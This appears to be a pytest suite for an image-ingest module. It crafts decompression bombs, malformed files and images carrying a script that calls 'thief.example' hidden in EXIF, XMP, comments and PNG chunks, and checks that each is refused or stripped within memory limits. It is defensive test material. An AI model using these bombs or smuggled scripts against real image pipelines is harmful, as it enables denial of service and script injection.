"""Hostile pictures: refused or made anew, within bounds, and nothing they smuggle comes out again."""

from __future__ import annotations

import functools
import gzip
import io
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image as Pillow, ImageFile

from digest.errors import PictureRefused
from digest.ingest import negatives
from digest.ingest.darkroom import MAX_OUTPUT, develop
from tests.ingest.exposures import (
    chunk,
    encoded,
    exif,
    of_size,
    opened,
    photo,
    png,
    segment,
    with_chunks,
    with_segments,
)

SMUGGLED = b"<script>fetch('//thief.example')</script>"
MEGABYTE = 1 << 20


@functools.cache
def plain(kind: str = "JPEG") -> bytes:
    return encoded(photo(250, 200), kind)


@functools.cache
def layered() -> bytes:
    return encoded(photo(250, 200), progressive=True)


def packed(size: int) -> bytes:
    """Return zeros of this length as zlib packs them, without ever holding them."""
    packer = zlib.compressobj(1)
    parts = [packer.compress(bytes(MEGABYTE)) for _ in range(size // MEGABYTE)]
    return b"".join((*parts, packer.compress(bytes(size % MEGABYTE)), packer.flush()))


def wide_png() -> bytes:
    """Return 1600 megapixels of one bit in 1 MB."""
    return png(40_000, 40_000, chunk(b"IDAT", packed(40_000 * 5_001)), depth=1, colour=0)


def large_png() -> bytes:
    """Return 17 megapixels that would be unpacked whole."""
    return png(5_000, 3_400, chunk(b"IDAT", packed(3_400 * 15_001)))


def talking_png() -> bytes:
    """Return a PNG with 60 comments of 1 MB each."""
    comment = chunk(b"zTXt", b"Comment\0\0" + packed(MEGABYTE - 1))
    return with_chunks(plain("PNG"), *([comment] * 60))


def crowded_gif(frames: int = 20_000) -> bytes:
    """Return a GIF with this many frames after its first."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    return plain("GIF")[:-1] + frame * frames + b"\x3b"


def huge_gif() -> bytes:
    return b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + plain("GIF")[10:]


def wide_gif_frame() -> bytes:
    """Return a GIF of 250 x 200 whose first frame says it is 60,000 x 60,000."""
    raw = plain("GIF")
    at = raw.index(b"\x2c\0\0\0\0" + struct.pack("<HH", 250, 200))
    return raw[: at + 5] + struct.pack("<HH", 60_000, 60_000) + raw[at + 9 :]


def huge_webp() -> bytes:
    """Return a WebP whose canvas says it is 16,384 x 16,384."""
    inner = plain("WEBP")[12:]
    extended = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff\x3f\0" * 2
    return b"RIFF" + struct.pack("<I", 4 + len(extended) + len(inner)) + b"WEBP" + extended + inner


def many_scans() -> bytes:
    """Return a JPEG whose last layer comes 5,000 times, each as long to decode as the first."""
    raw = layered()
    return raw[:-2] + raw[raw.rindex(b"\xff\xda") : -2] * 5_000 + raw[-2:]


def animated_png() -> bytes:
    raw = with_chunks(plain("PNG"), chunk(b"acTL", struct.pack(">II", 1 << 30, 0)))
    control = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 60_000, 60_000, 0, 0, 1, 1, 0, 0))
    return raw[:-12] + control * 2_000 + raw[-12:]


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("index.html", SMUGGLED)
    return out.getvalue()


def turned(kind: int, count: int, value: bytes) -> bytes:
    """Return a JPEG whose orientation is a value of this TIFF type."""
    entry = struct.pack("<HHI", 0x0112, kind, count) + (value if len(value) == 4 else struct.pack("<I", 26))
    data = b"Exif\0\0II*\0\x08\0\0\0\x01\0" + entry + bytes(4) + value
    return with_segments(plain(), segment(0xE1, data))


def looping_exif() -> bytes:
    """Return EXIF whose directory names itself as the next one, and as its own part."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 1) + entry + struct.pack("<I", 8)


def located_exif() -> bytes:
    data = Pillow.Exif()
    data[0x010E] = SMUGGLED.decode()
    data[0x8825] = {1: "N", 2: (59.0, 12.0, 34.0), 3: "E", 4: (11.0, 2.0, 3.0), 29: SMUGGLED.decode()}
    return data.tobytes()


BOMBS: dict[str, Callable[[], bytes]] = {
    "a PNG that says 60,000 x 60,000": lambda: png(60_000, 60_000, chunk(b"IDAT", packed(1_000))),
    "1600 megapixels in 1 MB of PNG": wide_png,
    "a PNG of 17 megapixels": large_png,
    "a PNG with 60 MB of comments": talking_png,
    "a PNG with a colour profile of 500 MB": lambda: with_chunks(
        plain("PNG"), chunk(b"iCCP", b"x\0\0" + packed(500 * MEGABYTE))
    ),
    "a GIF that says 65,535 x 65,535": huge_gif,
    "a GIF with a frame of 60,000 x 60,000": wide_gif_frame,
    "a WebP that says 16,384 x 16,384": huge_webp,
    "a JPEG that says 65,500 x 65,500": lambda: of_size(plain(), 65_500, 65_500),
    "a JPEG that says 8,000 x 6,000": lambda: of_size(plain(), 8_000, 6_000),
    "a JPEG in layers that says 5,000 x 4,000": lambda: of_size(layered(), 5_000, 4_000),
    "a JPEG with 5,000 layers": many_scans,
}
DAMAGED: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "NULs": lambda: bytes(5_000),
    "more than 30 MB": lambda: plain() + bytes(negatives.MAX_INPUT),
    "half a JPEG": lambda: plain()[: len(plain()) // 2],
    "half a layered JPEG": lambda: layered()[:400],
    "half a PNG": lambda: plain("PNG")[: len(plain("PNG")) // 2],
    "half a GIF": lambda: plain("GIF")[: len(plain("GIF")) // 2],
    "half a WebP": lambda: plain("WEBP")[: len(plain("WEBP")) // 2],
    "the start of a JPEG": lambda: b"\xff\xd8\xff\xe0",
    "the start of a PNG": lambda: b"\x89PNG\r\n\x1a\n",
    "a JPEG without height": lambda: of_size(plain(), 250, 0),
    "a JPEG without width": lambda: of_size(plain(), 0, 200),
    "a JPEG ten times as high as it is": lambda: of_size(plain(), 250, 2_000),
    "a PNG without width": lambda: png(0, 200, chunk(b"IDAT", packed(1_000))),
    "a PNG without pixels": lambda: png(250, 200),
    "a PNG with too few pixels": lambda: png(250, 200, chunk(b"IDAT", packed(1_000))),
    "a PNG without its palette": lambda: png(250, 200, chunk(b"IDAT", packed(50_200)), colour=3),
    "a PNG of a colour type there is not": lambda: png(250, 200, chunk(b"IDAT", packed(50_200)), colour=5),
    "a PNG with a wrong sum": lambda: plain("PNG")[:29] + b"\0\0\0\0" + plain("PNG")[33:],
    "TIFF as a JPEG": lambda: encoded(photo(250, 200), "TIFF"),
    "BMP as a JPEG": lambda: encoded(photo(250, 200), "BMP"),
    "an icon": lambda: encoded(photo(64, 64), "ICO"),
    "JPEG 2000": lambda: encoded(photo(250, 200), "JPEG2000"),
    "AVIF": lambda: encoded(photo(250, 200), "AVIF"),
    "Photoshop": lambda: b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, 200, 250, 8, 3) + bytes(9_000),
    "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 250 200\n(id) run\n",
    "PDF": lambda: b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript>>>>",
    "SVG": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SMUGGLED + b"</svg>",
    "packed SVG": lambda: gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "HTML": lambda: b"<!doctype html>" + SMUGGLED,
    "HTML before a JPEG": lambda: SMUGGLED + plain(),
    "an archive": archive,
    "a program": lambda: b"MZ\x90\0" + bytes(4_000),
}
SMUGGLERS: dict[str, Callable[[], bytes]] = {
    "a comment": lambda: with_segments(plain(), segment(0xFE, SMUGGLED)),
    "comments as HTML": lambda: with_segments(
        plain(), segment(0xFE, b"<html><!--" + SMUGGLED + b"--></html>")
    ),
    "XMP": lambda: with_segments(plain(), segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SMUGGLED)),
    "IPTC": lambda: with_segments(plain(), segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04" + SMUGGLED)),
    "a colour profile": lambda: with_segments(plain(), segment(0xE2, b"ICC_PROFILE\0\x01\x01" + SMUGGLED)),
    "EXIF with a place": lambda: encoded(photo(250, 200), exif=located_exif()),
    "EXIF of a PNG": lambda: encoded(photo(250, 200), "PNG", exif=located_exif()),
    "EXIF of a WebP": lambda: encoded(photo(250, 200), "WEBP", exif=located_exif(), xmp=SMUGGLED),
    "EXIF of nonsense": lambda: with_segments(plain(), segment(0xE1, b"Exif\0\0" + SMUGGLED)),
    "EXIF in a circle": lambda: with_segments(
        plain(), segment(0xE1, looping_exif()), segment(0xFE, SMUGGLED)
    ),
    "EXIF with a turn there is not": lambda: turned(3, 1, b"\x63\0\0\0"),
    "EXIF with a turn in words": lambda: turned(2, len(SMUGGLED), SMUGGLED),
    "EXIF with two turns": lambda: turned(3, 2, b"\x06\0\x08\0"),
    "EXIF with a turn by nought": lambda: turned(5, 1, bytes(8)),
    "a text of a PNG": lambda: with_chunks(plain("PNG"), chunk(b"tEXt", b"Title\0" + SMUGGLED)),
    "a chunk nobody knows": lambda: with_chunks(plain("PNG"), chunk(b"evIl", SMUGGLED)),
    "a comment of a GIF": lambda: encoded(photo(250, 200), "GIF", comment=SMUGGLED),
    "an archive after a JPEG": lambda: plain() + archive(),
    "a film after a JPEG": lambda: plain() + SMUGGLED + b"\xff\xda" * 1_000,
    "a script after a PNG": lambda: plain("PNG") + SMUGGLED,
    "a second picture": lambda: encoded(
        photo(250, 200), "MPO", save_all=True, append_images=[photo(250, 200, 2)], comment=SMUGGLED
    ),
    "a chunk of 4 GB": lambda: plain("PNG")[:33] + b"\xff\xff\xff\xffIDAT" + plain("PNG")[41:],
    "a GIF with 20,000 frames": crowded_gif,
    "a PNG with frames of 60,000 x 60,000": animated_png,
    "a turn that lies in colours": lambda: encoded(photo(250, 200).convert("CMYK"), exif=exif(7)),
}


@pytest.mark.parametrize("name", [*BOMBS, *DAMAGED])
def test_what_cannot_be_shown_is_refused_in_a_sentence(name: str) -> None:
    with pytest.raises(PictureRefused) as refused:
        develop((BOMBS | DAMAGED)[name]())
    assert len(str(refused.value)) < 140


@pytest.mark.parametrize("name", SMUGGLERS)
def test_what_a_picture_smuggles_never_comes_out_again(name: str) -> None:
    made = develop(SMUGGLERS[name]())
    found = opened(made.content)
    assert sorted((made.width, made.height)) == [200, 250]
    assert len(made.content) <= MAX_OUTPUT
    assert not found.getexif()
    assert not {"comment", "exif", "xmp", "icc_profile", "photoshop"} & found.info.keys()
    for smuggled in (b"script", b"thief", b"html", b"Exif", b"PK\x03\x04", b"MPF", b"evIl"):
        assert smuggled not in made.content


def test_what_follows_the_picture_does_not_change_it() -> None:
    assert develop(plain() + archive()) == develop(plain())
    assert develop(with_segments(plain(), segment(0xFE, SMUGGLED))) == develop(plain())


def test_a_segment_that_ends_early_makes_no_jpeg_of_one_scan() -> None:
    assert negatives._has_one_scan(plain())
    for raw in (layered(), plain()[:300], b"\xff\xd8", b"\xff\xd8" + b"\xff\xfe\0\0" * 9, plain("PNG")):
        assert not negatives._has_one_scan(raw)


def test_a_decoder_that_fails_oddly_is_a_damaged_picture(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(ImageFile.ImageFile, "load", broken)
    with pytest.raises(PictureRefused, match=r"damaged \(ZeroDivisionError\)"):
        develop(plain())


MEASURE = """
import pathlib, sys
from digest.errors import PictureRefused
from digest.ingest.darkroom import develop

def peak():
    status = pathlib.Path("/proc/self/status").read_text()
    return int(status.split("VmHWM:")[1].split()[0]) / 1024

warm, *others = [pathlib.Path(name) for name in sys.argv[1:]]
develop(warm.read_bytes())
raws = [other.read_bytes() for other in others]
before = peak()
for raw in raws:
    try:
        develop(raw)
        print("developed", peak() - before)
    except PictureRefused:
        print("refused", peak() - before)
"""


def growth(folder: Path, *raws: bytes) -> list[tuple[str, float]]:
    """Return what became of each picture, and by how many MB the peak of memory had grown then."""
    names = []
    for place, raw in enumerate((plain(), *raws)):
        (folder / str(place)).write_bytes(raw)
        names.append(str(folder / str(place)))
    done = subprocess.run(  # noqa: S603 - our own interpreter and script
        [sys.executable, "-c", MEASURE, *names], capture_output=True, text=True, check=True, timeout=100
    )
    return [(word, float(number)) for word, number in map(str.split, done.stdout.splitlines())]


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the peak of memory is read from /proc")
def test_bombs_are_refused_without_being_unpacked(tmp_path: Path) -> None:
    grown = growth(tmp_path, *(make() for make in BOMBS.values()))
    print("bombs, MB:", grown)  # noqa: T201 - the figure is wanted
    assert {word for word, _ in grown} == {"refused"}
    assert max(number for _, number in grown) <= 32


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the peak of memory is read from /proc")
def test_forty_megapixels_are_shrunk_while_they_are_read(tmp_path: Path) -> None:
    ((word, number),) = growth(tmp_path, encoded(photo(7_300, 5_479).convert("YCbCr")))
    print("40 megapixels, MB:", number)  # noqa: T201 - likewise
    assert word == "developed"
    assert number <= 64
